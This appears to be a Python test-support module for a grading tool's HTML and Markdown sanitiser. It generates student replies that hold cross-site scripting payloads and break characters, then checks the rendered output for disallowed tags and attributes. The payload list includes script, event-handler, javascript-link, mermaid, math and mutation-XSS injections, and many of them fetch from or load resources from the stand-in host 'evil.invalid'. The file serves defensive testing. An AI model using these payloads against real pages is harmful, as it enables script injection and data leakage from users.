"""Written answers that attack whoever opens them, made from parts; and what they may become.

Each payload that comes through gives itself away: it sets ``window.owned``, opens a dialog,
or fetches from ``evil.invalid``.
"""

from __future__ import annotations

import itertools
import random
import re

import bs4

from doneenough.grading.prose_html import ATTRIBUTES, IGNORED, TAGS

BREAKS = [
    *("\n\n", "\r\r", "\r\n\r\n", "\x0b\x0b", "\x0c\x0c", "\x1c\x1d\x1e", "\x85\x85"),
    *("\u2028\u2028", "\u2029\u2029", "\u2028\n\u2028", "\n \t\n", "\n\xa0\n", "\x00\n\x00\n"),
    *("&#13;&#13;", "&#x0D;&#x0d;", "&#10;&#10;", "&NewLine;&NewLine;", "&#11;&#12;", "&#x85;"),
    *("&#8232;&#8233;", "&Tab;\n&Tab;\n", "&#13;\n&#13;\n", "&amp;#13;&amp;#13;", "&#13&#13"),
]
"""What some reader may take for the end of a block, written plainly or as an entity."""

SCRIPT = "window.owned=1;alert(1);fetch('//evil.invalid/f')"
PAYLOADS = [
    f"<script>{SCRIPT}</script>",
    f'<img src=x onerror="{SCRIPT}">',
    f'![x](x"autofocus/onfocus="{SCRIPT}"tabindex=1)',
    f'![x](x "y" autofocus onfocus={SCRIPT} tabindex=1)',
    f"<svg/onload={SCRIPT}>",
    f"<details open ontoggle={SCRIPT}>x</details>",
    f"<iframe srcdoc='<script>parent.{SCRIPT}</script>'></iframe>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<a href='javascript:{SCRIPT}' autofocus onfocus={SCRIPT}>x</a>",
    f"[x](javascript:{SCRIPT})",
    f"[x](JaVa\tScRiPt:{SCRIPT})",
    f"[x](&#106;avascript&colon;{SCRIPT})",
    f"[x][1]\n\n[1]: javascript:{SCRIPT}",
    f"<javascript:{SCRIPT}>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](/lab/tree/cohort?reset) [y](https:lab/tree) [z](https:/lab) [u](http:\\\\evil.invalid)",
    "![x](https://evil.invalid/pixel.png)",
    "![x][2]\n\n[2]: //evil.invalid/pixel.png",
    "<img src=//evil.invalid/p.png srcset=//evil.invalid/q.png>",
    "<p style='background:url(//evil.invalid/p.png);position:fixed;inset:0'>x</p>",
    "<style>@import '//evil.invalid/s.css'; body{background:url(//evil.invalid/b)}</style>",
    "<link rel=stylesheet href=//evil.invalid/s.css><base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<video src=//evil.invalid/v autoplay></video><audio src=//evil.invalid/a></audio>",
    "<form action=//evil.invalid><button autofocus>x</button></form>",
    "![x](attachment:x) <img src='attachment:y'>",
    f"```mermaid\ngraph\nA[<img src=x onerror={SCRIPT}>]\nclick A href 'javascript:1'\n```",
    "<pre class=mermaid>\ngraph LR\nA-->B\n</pre><div class=jp-Mermaid>x</div>",
    f"$$\\href{{javascript:{SCRIPT}}}{{x}}$$ and $5 or $6 and \\(x^2\\)",
    "\\begin{align}x\\end{align} \\[ \\unicode{x41} \\] $\\class{y}{\\style{color:red}{z}}$",
    "@@0@@ @@1@@ ~D ~T~D",
    f"<math><mtext><style><img src=x onerror={SCRIPT}></style></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'></noscript>",
    "<a id=base_url name=jQuery data-commandlinker-command='terminal:open'>x</a>",
    f"<p onclick={SCRIPT} class=jp-Notebook>x</p>",
    f"<!-- -- --!><img src=x onerror={SCRIPT}> -->",
    f"<![CDATA[<img src=x onerror={SCRIPT}>]]><?x <img src=x onerror={SCRIPT}> ?>",
    f"{{% include 'x' %}} {{{{ cell }}}} </div></div></body><script>{SCRIPT}</script>",
    f"\u202e>tpircs/<\u202c\x1b]8;;x\x07 <\x00script>{SCRIPT}</\x00script>",
]

AROUND = [
    "{0}{1}",
    "Dear all,{0}{1}{0}yours",
    "> {0}> {1}",
    "- a{0}  {1}{0}- b",
    "<p>{0}{1}",
    "<div title='{0}'>{1}",
    "<pre>{0}{1}",
    "```{0}{1}{0}```",
    "| a |{0}|---|{0}| {1} |",
    "<!--{0}-->{1}",
    "</div>{0}{1}",
    "# {1}{0}{1}",
    "`{0}{1}`",
    "<a href='https://example.org/{0}'>{1}</a>",
]


def hostile_replies(count: int) -> list[str]:
    """Return so many replies: every payload and every break at least once, then at random."""
    draw = random.Random(14)
    breaks, around = itertools.cycle(BREAKS), itertools.cycle(AROUND)
    replies = [next(around).format(next(breaks), payload) for payload in PAYLOADS]
    while len(replies) < count:
        payload = draw.choice(PAYLOADS)
        replies.append(draw.choice(AROUND).format(draw.choice(BREAKS), payload))
    return replies[:count]


def faults(fragment: str, *more: str) -> list[str]:
    """Return each element and attribute of some HTML that a reply may not have."""
    found = []
    for tag in bs4.BeautifulSoup(fragment, "html.parser").find_all():
        if tag.name == "div" and "doneenough-reply" in tag.get("class", ""):
            if tag.attrs != {"class": ["doneenough-reply", *IGNORED.split()]}:
                found.append(str(tag.attrs))
            continue
        if tag.name not in TAGS | {*more}:
            found.append(tag.name)
        found += [f"{tag.name} {name}" for name in set(tag.attrs) - ATTRIBUTES.get(tag.name, set())]
        href = str(tag.get("href", "mailto:"))
        if not re.match("https?://[a-z0-9]|mailto:", href, re.IGNORECASE):
            found.append(href)
    return found


def tree(fragment: str) -> list[object]:
    """Return elements, attributes and text of some HTML, in order; blank text left out."""
    seen: list[object] = []
    for node in bs4.BeautifulSoup(fragment, "html.parser").descendants:
        if isinstance(node, bs4.Tag):
            seen.append((node.name, sorted(node.attrs.items())))
        elif node.strip():
            seen.append(node.strip())
    return seen
